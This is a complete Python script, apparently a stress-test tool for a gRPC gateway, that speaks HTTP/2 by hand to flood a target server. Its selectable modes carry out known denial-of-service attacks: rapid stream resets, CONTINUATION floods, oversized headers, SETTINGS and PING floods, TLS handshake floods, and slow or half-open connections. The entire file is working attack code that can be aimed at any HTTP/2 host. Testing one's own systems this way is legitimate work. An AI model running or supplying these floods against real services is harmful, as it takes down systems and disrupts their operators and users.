"""Abuses a gateway at full speed, over mutual TLS with a good certificate or before it, until it is killed.

    abuser.py HOST:PORT PKI SYSTEM KIND

HTTP/2 is spoken by hand (RFC 9113), so that what no client library would send can be sent. Only Python's own library.
Prints `ready` once it has begun. KIND is one of the functions below.
"""

import os
import socket
import ssl
import struct
import sys
import threading
import time

DATA, HEADERS, RST_STREAM, SETTINGS, PING, WINDOW_UPDATE, CONTINUATION = 0, 1, 3, 4, 6, 8, 9
END_STREAM, END_HEADERS = 1, 4
INITIAL_WINDOW_SIZE = 4
PATH = "/veldwacht.audit.v1.AuditService/GetCheckpoint"


def frame(kind, flags, stream, payload=b""):
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload


def fields(*pairs):
    """Header fields as literals without a table (RFC 7541, 6.2.2)."""

    def text(value):
        value = value.encode()
        if len(value) < 127:
            return bytes([len(value)]) + value
        rest, length = len(value) - 127, bytearray([127])
        while rest >= 128:
            length.append(rest % 128 + 128)
            rest //= 128
        return bytes(length) + bytes([rest]) + value

    return b"".join(b"\0" + text(name) + text(value) for name, value in pairs)


REQUEST = fields(
    (":method", "POST"), (":scheme", "https"), (":authority", "localhost"), (":path", PATH),
    ("content-type", "application/grpc"), ("te", "trailers"),
)


class Abuser:
    def __init__(self, address, pki, system):
        host, port = address.rsplit(":", 1)
        self.place = ("127.0.0.1" if host == "localhost" else host, int(port))
        self.tls = ssl.create_default_context(cafile=os.path.join(pki, "gateway-ca.pem"))
        self.tls.load_cert_chain(os.path.join(pki, f"{system}.pem"), os.path.join(pki, f"{system}.key.pem"))
        self.tls.set_alpn_protocols(["h2"])

    def connect(self, settings=b""):
        connection = self.tls.wrap_socket(socket.create_connection(self.place), server_hostname="localhost")
        window = frame(WINDOW_UPDATE, 0, 0, struct.pack(">I", 2**31 - 1 - 65535))
        connection.sendall(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frame(SETTINGS, 0, 0, settings) + window)
        return connection

    def flood(self, make):
        """Sends what `make` gives for as long as it is taken, and comes back when it is cut off."""
        while True:
            try:
                connection = self.connect()
                connection.settimeout(2)
                for blob in make():
                    connection.sendall(blob)
            except OSError:
                time.sleep(0.01)

    def resets(self):
        def make():
            stream = 1
            while stream < 2**30:
                yield b"".join(
                    frame(HEADERS, END_HEADERS, number, REQUEST) + frame(RST_STREAM, 0, number, struct.pack(">I", 8))
                    for number in range(stream, stream + 200, 2)
                )
                stream += 200

        self.flood(make)

    def continuations(self):
        def make():
            yield frame(HEADERS, 0, 1, REQUEST)
            while True:
                yield frame(CONTINUATION, 0, 1, b"") * 500

        self.flood(make)

    def header_lists(self):
        large = REQUEST + fields(*((f"x-{number}", "y" * 4000) for number in range(5)))

        def make():
            for stream in range(1, 2**30, 2):
                yield frame(HEADERS, END_STREAM, stream, large[:16000]) + frame(CONTINUATION, END_HEADERS, stream, large[16000:])

        self.flood(make)

    def settings(self):
        def make():
            while True:
                yield (frame(SETTINGS, 0, 0) + frame(PING, 0, 0, b"12345678")) * 500

        self.flood(make)

    def handshakes(self):
        """Only the first message of a handshake, the cheap one: the answer costs the gateway a signature."""
        hello = self.tls.wrap_bio(incoming := ssl.MemoryBIO(), outgoing := ssl.MemoryBIO(), server_hostname="localhost")
        try:
            hello.do_handshake()
        except ssl.SSLWantReadError:
            pass
        first, kept = outgoing.read(), []
        while True:
            try:
                connection = socket.create_connection(self.place)
                connection.sendall(first)
                kept.append(connection)
            except OSError:
                time.sleep(0.001)
            del kept[:-200]

    def slow(self):
        """Takes nothing of any answer, gives every request by halves, and leaves connections half open."""
        kept = []
        while True:
            try:
                none = self.connect(struct.pack(">HI", INITIAL_WINDOW_SIZE, 0))
                for stream in range(1, 255, 2):
                    none.sendall(frame(HEADERS, END_HEADERS, stream, REQUEST) + frame(DATA, END_STREAM, stream, bytes(5)))
                halves = self.connect()
                for stream in range(1, 255, 2):
                    halves.sendall(frame(HEADERS, END_HEADERS, stream, REQUEST) + frame(DATA, 0, stream, b"\0"))
                kept += [none, halves, socket.create_connection(self.place)]
            except OSError:
                time.sleep(0.05)

    def calls(self):
        """As many calls as it can, a hundred at a time on each of eight connections."""

        def caller():
            while True:
                try:
                    connection, stream = self.connect(), 1
                    while True:
                        some = range(stream, stream + 200, 2)
                        connection.sendall(b"".join(
                            frame(HEADERS, END_HEADERS, number, REQUEST) + frame(DATA, END_STREAM, number, bytes(5))
                            for number in some
                        ))
                        self.take(connection, len(some))
                        stream += 200
                except OSError:
                    time.sleep(0.01)

        callers = [threading.Thread(target=caller) for _ in range(8)]
        for one in callers:
            one.start()
        callers[0].join()

    @staticmethod
    def take(connection, answers):
        """Reads until so many streams have ended."""
        rest = b""
        while answers > 0:
            more = connection.recv(65536)
            if not more:
                raise OSError("cut off")
            rest += more
            while len(rest) >= 9:
                end = 9 + int.from_bytes(rest[:3], "big")
                if len(rest) < end:
                    break
                kind, flags = rest[3], rest[4]
                if kind == RST_STREAM or kind in (DATA, HEADERS) and flags & END_STREAM:
                    answers -= 1
                rest = rest[end:]


if __name__ == "__main__":
    if len(sys.argv) != 5:
        sys.exit(__doc__)
    abuser = Abuser(*sys.argv[1:4])
    print("ready", flush=True)
    getattr(abuser, sys.argv[4])()
